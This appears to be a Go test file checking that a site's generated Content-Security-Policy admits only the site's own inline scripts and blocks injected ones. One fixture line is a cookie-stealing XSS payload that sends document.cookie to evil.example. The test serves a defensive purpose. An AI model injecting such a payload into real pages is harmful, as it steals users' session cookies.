package release

import (
	"strings"
	"testing"
)

const (
	themeScript = `document.documentElement.dataset.theme="light"`
	attack      = `fetch("https://evil.example/"+document.cookie)`
)

func page(scripts ...string) string {
	return "<!doctype html><body><script>" + strings.Join(scripts, "</script><p>x</p><script>") + "</script>"
}

// allowed reports whether a policy lets an inline script run.
func allowed(policy, script string) bool {
	return strings.Contains(policy, "'"+scriptHash([]byte(script))+"'")
}

func TestPolicy_AllowsOnlyScriptsThatNobodyCanWrite(t *testing.T) {
	w := newWriter(t)
	w.publish("f1", map[string]string{
		"/404.html": page(themeScript), "/blog/first.html": page(themeScript, attack),
	})
	store := open(t, w.dir)
	policy := ask(t, store, "GET", "/blog/first").get("Content-Security-Policy")
	if !allowed(policy, themeScript) {
		t.Errorf("the page's own scripts are refused: %s", policy)
	}
	if allowed(policy, attack) || strings.Contains(policy, "script-src 'self' 'unsafe") {
		t.Errorf("a script that stands in an article is allowed: %s", policy)
	}
	for name, got := range map[string]string{
		"not modified": ask(t, store, "GET", "/blog/first", "If-None-Match", ask(t, store, "GET", "/blog/first").get("ETag")).
			get("Content-Security-Policy"),
		"head": ask(t, store, "HEAD", "/blog/first").get("Content-Security-Policy"),
	} {
		if got != policy {
			t.Errorf("%s: policy %q", name, got)
		}
	}
	missing := ask(t, store, "GET", "/nowhere")
	if missing.status != 404 || !allowed(missing.get("Content-Security-Policy"), themeScript) {
		t.Errorf("unknown address: %d, %v", missing.status, missing.header)
	}

	// Another version of the site has other scripts of its own.
	const later = `document.documentElement.dataset.theme="dark"`
	w.publish("f2", map[string]string{"/404.html": page(later), "/blog/first.html": page(themeScript, attack)})
	if err := store.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	if policy := ask(t, store, "GET", "/blog/first").get("Content-Security-Policy"); allowed(policy, themeScript) {
		t.Errorf("after the page for unknown addresses changed: %s", policy)
	}
}

func TestPolicy_FollowsTheConfiguration(t *testing.T) {
	before, after := Policy{}.around()
	plain := before + after
	if strings.Contains(plain, "upgrade-insecure-requests") || !strings.Contains(plain, "connect-src 'self';") ||
		!strings.Contains(plain, "img-src 'self' data: https: http:;") {
		t.Errorf("over http: %s", plain)
	}
	before, after = Policy{APIOrigin: "https://api.example", Secure: true}.around()
	secure := before + after
	if !strings.Contains(secure, "; upgrade-insecure-requests") ||
		!strings.Contains(secure, "connect-src 'self' https://api.example;") || strings.Contains(secure, "http:;") {
		t.Errorf("over https: %s", secure)
	}
}

func TestInlineScripts_AreReadAsABrowserDoes(t *testing.T) {
	got := inlineScripts([]byte("<p title='<script>no</script>'><!-- <script>no</script> --><script src=/x.js></script>" +
		"<SCRIPT id=a>one\r\ntwo</SCRIPT ><script>a<b</script><textarea><script>no</script></textarea>" +
		"<style><script>no</script></style>"))
	var texts []string
	for _, script := range got {
		texts = append(texts, string(script))
	}
	if want := "one\ntwo|a<b"; strings.Join(texts, "|") != want {
		t.Errorf("scripts are %q, want %q", texts, want)
	}
}
